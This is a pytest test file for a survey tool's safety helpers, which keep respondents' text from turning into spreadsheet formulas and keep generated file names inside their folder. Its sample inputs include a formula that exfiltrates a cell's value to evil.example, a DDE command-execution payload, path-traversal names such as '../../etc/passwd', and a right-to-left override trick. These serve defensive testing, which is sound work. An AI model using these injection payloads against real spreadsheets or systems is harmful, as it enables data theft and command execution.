"""Respondents' text never becomes a formula, and names built from it never leave the folder."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import Workbook, load_workbook

from selfassess.errors import UsageError
from selfassess.safety.text import (
    EXCEL_MAX_CELL_CHARS,
    MAX_FILENAME_BYTES,
    csv_field,
    excel_text,
    safe_filename,
    safe_path,
    set_text,
)

FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "=1+1",
    "  =cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "=",
]
S_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formulas_in(data: bytes) -> list[str]:
    """Every ``<f>`` element of every worksheet of a saved workbook."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(zf.read(name))
                found += [el.text or "" for el in root.iter(S_NS + "f")]
    return found


def saved(values: list[str]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row, value in enumerate(values, 1):
        set_text(ws.cell(row=row, column=1), value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_formula_like_text_stays_text_in_a_saved_workbook() -> None:
    data = saved(FORMULA_LIKE)
    assert formulas_in(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    for row, value in enumerate(FORMULA_LIKE, 1):
        cell = ws.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (value, "s")
        if value.lstrip(" ").startswith(("=", "+", "-", "@", "＝")):
            assert cell.quotePrefix


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=200), min_size=1, max_size=5))
def test_any_text_survives_a_workbook_as_text(values: list[str]) -> None:
    data = saved(values)
    assert formulas_in(data) == []
    ws = load_workbook(io.BytesIO(data)).active
    for row, value in enumerate(values, 1):
        read = ws.cell(row=row, column=1).value
        assert (read or "") == excel_text(value)


def test_control_characters_and_long_text() -> None:
    assert excel_text("a\x00b\x1fc\td") == "a\ufffdb\ufffdc\td"
    long = "ع" * (EXCEL_MAX_CELL_CHARS + 10)
    cut = excel_text(long)
    assert len(cut) == EXCEL_MAX_CELL_CHARS
    assert cut.endswith("…")
    astral = "😀" * EXCEL_MAX_CELL_CHARS  # two UTF-16 units each
    assert len(excel_text(astral).encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL_CHARS
    assert excel_text("x" * EXCEL_MAX_CELL_CHARS) == "x" * EXCEL_MAX_CELL_CHARS
    ws = load_workbook(io.BytesIO(saved(["a\x01b", long]))).active
    assert ws["A1"].value == "a\ufffdb"
    assert len(ws["A2"].value) == EXCEL_MAX_CELL_CHARS


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_csv_fields_are_neutralised(value: str) -> None:
    field = csv_field(value)
    assert field.startswith("'")
    out = io.StringIO()
    csv.writer(out).writerow([field, "x"])
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + value


@given(st.text())
def test_csv_never_starts_a_formula(value: str) -> None:
    field = csv_field(value)
    assert not field.lstrip(" \u00a0\u3000").startswith(
        ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    )
    assert field in (value, "'" + value)


def test_csv_numbers_stay_numbers() -> None:
    assert (csv_field(-1), csv_field(0.25), csv_field(None), csv_field(True)) == (
        "-1",
        "0.25",
        "",
        "True",
    )


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        (("ctoc_wgta", "1.0", "MX", "fr"), "ctoc_wgta_1.0_MX_fr"),
        (("../../etc/passwd",), "etc_passwd"),
        (("..\\..\\windows\\system32",), "windows_system32"),
        (("/abs/path",), "abs_path"),
        ((".hidden",), "hidden"),
        (("nul",), "nul_"),
        (("COM1.txt",), "COM1.txt_"),
        (("a\x00b",), "a_b"),
        (("\u202eexe.docx",), "exe.docx"),
        (("ملف", "ar"), "ملف_ar"),
        (("中文表格",), "中文表格"),
        ((), "_"),
        (("...",), "_"),
    ],
)
def test_safe_filename(parts: tuple[str, ...], expected: str) -> None:
    assert safe_filename(*parts) == expected


def test_safe_filename_extension_and_length() -> None:
    assert safe_filename("x", ext=".xlsx") == "x.xlsx"
    assert safe_filename("x", ext="../docx") == "x.docx"
    long = safe_filename("ж" * 500, ext="docx")
    assert long.endswith(".docx")
    assert len(long.removesuffix(".docx").encode()) <= MAX_FILENAME_BYTES


# The folder is shared by every example on purpose: each one removes its file.
@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.text(), max_size=4), st.sampled_from(["", "docx", ".xlsx", "../x", "/"]))
def test_safe_path_never_leaves_the_folder(tmp_path: Path, parts: list[str], ext: str) -> None:
    path = safe_path(tmp_path, *parts, ext=ext)
    assert path.parent == tmp_path
    assert not path.name.startswith(".")
    assert "/" not in path.name
    assert "\\" not in path.name
    path.write_bytes(b"x")  # the file system accepts the name
    path.unlink()


def test_safe_path_refuses_a_symlink_out_of_the_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = tmp_path / "out"
    folder.mkdir()
    assert safe_path(folder, "a", ext="docx") == folder / "a.docx"
    (folder / "a.docx").symlink_to(outside / "a.docx")
    with pytest.raises(UsageError, match="outside"):
        safe_path(folder, "a", ext="docx")
